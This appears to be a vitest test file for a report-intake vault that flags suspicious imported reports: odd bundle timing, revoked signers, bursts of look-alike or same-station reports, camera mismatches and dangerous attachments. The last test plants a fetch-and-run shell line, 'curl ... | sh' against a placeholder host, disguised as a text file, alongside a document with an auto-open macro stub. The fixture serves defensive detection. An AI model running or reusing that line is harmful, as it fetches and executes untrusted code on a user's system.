// The remaining signals, each from its own crafted fixture on a real vault: bundle made before or
// long after receipt, a signer revoked after the import, a burst of look-alikes (pointing back to
// the earlier ones too), a burst from one station, one reporter's photos from two cameras, and an
// Office document with a macro and a shell script as attachments.
import { createHash, randomUUID } from 'node:crypto';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { signalsOf } from '../../db/queries/review';
import { buildBundle, jsonBytes, reportObject } from '../support/bundles';
import { exiftoolJpeg } from '../support/forensic-fixtures';
import { intakeVault } from '../support/intake';
import { tempDir } from '../support/temp';

let tmp: ReturnType<typeof tempDir>;
let v: Awaited<ReturnType<typeof intakeVault>>;
beforeEach(async () => {
  tmp = tempDir();
  v = await intakeVault(tmp.path);
});
afterEach(() => {
  v.t.dispatcher.sessions.lock('shutdown');
  tmp.cleanup();
});

const sha = (b: Uint8Array) => createHash('sha256').update(b).digest('hex');
const STORY = 'Twee mannen van de vereniging kwamen langs en zeiden dat mijn zus haar baan verliest als ik blijf demonstreren voor de ambassade in Den Haag.';

function report(o: { receivedAt?: string; pseudonym?: string; narrative?: string; attachments?: { bytes: Buffer; filename: string; mediaType: string }[] } = {}) {
  const base = reportObject() as Record<string, unknown>;
  return {
    ...base,
    reportId: randomUUID(),
    receivedAt: o.receivedAt ?? '2026-11-27T10:00:00Z',
    reporter: { pseudonym: o.pseudonym ?? `P-${randomUUID().slice(0, 6)}`, consent: { contact: true, referral: false, anonymisedAnalysis: true } },
    incident: { summary: 'Melding', narrative: o.narrative ?? `Een eigen verhaal ${randomUUID()} zonder gelijkenis met andere meldingen.` },
    attachments: (o.attachments ?? []).map((a) => ({ sha256: sha(a.bytes), filename: a.filename, mediaType: a.mediaType })),
  };
}

async function importOne(reports: ReturnType<typeof report>[], manifestCreatedAt?: string, attachments: Buffer[] = []) {
  const b = await buildBundle({
    reports: reports.map(jsonBytes),
    attachments,
    signer: v.intake,
    to: v.to,
    ...(manifestCreatedAt ? { manifest: (m: Record<string, unknown>) => ({ ...m, createdAt: manifestCreatedAt }) } : {}),
  });
  const [r] = await v.importHere([v.put(b.bytes)]);
  expect(r?.status).toBe('imported');
}

function signals(reportId: string) {
  const rows = signalsOf(v.t.dispatcher.sessions.require().vault.db, reportId);
  return new Map(rows.map((r) => [r.kind, { strength: r.strength, facts: JSON.parse(r.facts) as Record<string, unknown>, related: JSON.parse(r.related) as string[] }]));
}

/** A stored ZIP with one entry, named as Office names a document's macro project. */
function docmWithMacro(): Buffer {
  const name = Buffer.from('word/vbaProject.bin');
  const data = Buffer.from('Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\nEnd Sub\n');
  const h = Buffer.alloc(30);
  h.writeUInt32LE(0x04034b50, 0);
  h.writeUInt16LE(20, 4);
  h.writeUInt32LE(data.length, 18);
  h.writeUInt32LE(data.length, 22);
  h.writeUInt16LE(name.length, 26);
  return Buffer.concat([h, name, data, Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]);
}

describe('more signals', () => {
  it('a bundle made before the report was received, or long after', async () => {
    const early = report({ receivedAt: '2026-11-29T12:00:00Z' });
    const late = report({ receivedAt: '2026-05-01T12:00:00Z' });
    await importOne([early], '2026-11-28T09:30:00Z');
    await importOne([late], '2026-11-28T09:30:00Z');
    expect(signals(early.reportId).get('bundle-before-received')?.facts).toEqual({ hours: 27 });
    expect(signals(late.reportId).get('bundle-long-after')?.facts.days).toBe(211);
    expect(signals(late.reportId).get('bundle-long-after')?.strength).toBe(1);
  });

  it('a signer revoked after the import gives its reports the signal', async () => {
    const r = report();
    await importOne([r]);
    expect(signals(r.reportId).has('revoked-signer')).toBe(false);
    await v.t.ok('trust.revoke', { keyId: v.intake.keyIdHex });
    expect(signals(r.reportId).get('revoked-signer')?.facts).toMatchObject({ station: 'intake-01' });
  });

  it('a burst of look-alikes within two days, also on the earlier ones', async () => {
    const reports = [0, 1, 2].map((i) => report({ narrative: STORY, receivedAt: `2026-11-2${5 + i}T10:00:00Z` }));
    for (const r of reports) await importOne([r]);
    const [first, , last] = reports;
    expect(signals(last?.reportId ?? '').get('burst-similar')?.facts).toEqual({ count: 3, hours: 48 });
    // The earlier ones learn of the later look-alikes (all three within 48 hours of each other).
    expect(new Set(signals(first?.reportId ?? '').get('burst-similar')?.related)).toEqual(new Set([reports[1]?.reportId, last?.reportId]));
    expect(signals(reports[1]?.reportId ?? '').get('burst-similar')?.facts).toEqual({ count: 3, hours: 48 });
  });

  it('a burst of reports from one station within the hour', async () => {
    const reports = Array.from({ length: 10 }, (_, i) => report({ receivedAt: `2026-11-27T10:${String(i * 5).padStart(2, '0')}:00Z` }));
    // One bundle each: the first report's own signals are computed before the others exist.
    for (const r of reports) await importOne([r]);
    expect(signals(reports[9]?.reportId ?? '').get('burst-station')?.facts).toMatchObject({ count: 10, station: 'intake-01' });
    // The first of the burst gets it too.
    expect(signals(reports[0]?.reportId ?? '').get('burst-station')?.facts).toMatchObject({ count: 10 });
    const alone = report({ receivedAt: '2026-10-01T10:00:00Z' });
    await importOne([alone]);
    expect(signals(alone.reportId).has('burst-station')).toBe(false);
  });

  it('one reporter’s photos from two cameras', async () => {
    const canon = exiftoolJpeg(tmp.path, { Make: 'Canon', Model: 'EOS 80D' });
    const phone = exiftoolJpeg(tmp.path, { Make: 'Apple', Model: 'iPhone 13' });
    const a = report({ pseudonym: 'Lijster-8', attachments: [{ bytes: canon, filename: 'a.jpg', mediaType: 'image/jpeg' }] });
    const b = report({ pseudonym: 'Lijster-8', attachments: [{ bytes: phone, filename: 'b.jpg', mediaType: 'image/jpeg' }] });
    await importOne([a], undefined, [canon]);
    expect(signals(a.reportId).has('camera-mismatch')).toBe(false);
    await importOne([b], undefined, [phone]);
    expect(signals(b.reportId).get('camera-mismatch')?.facts).toEqual({ cameras: 2 });
  });

  it('an Office document with a macro and a shell script', async () => {
    const docm = docmWithMacro();
    const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
    const r = report({ attachments: [{ bytes: docm, filename: 'verklaring.docx', mediaType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' }, { bytes: script, filename: 'lees.txt', mediaType: 'text/plain' }] });
    await importOne([r], undefined, [docm, script]);
    expect(signals(r.reportId).get('dangerous-attachment')?.facts).toEqual({ dangers: 'macro,script', attachments: 2 });
  });
});
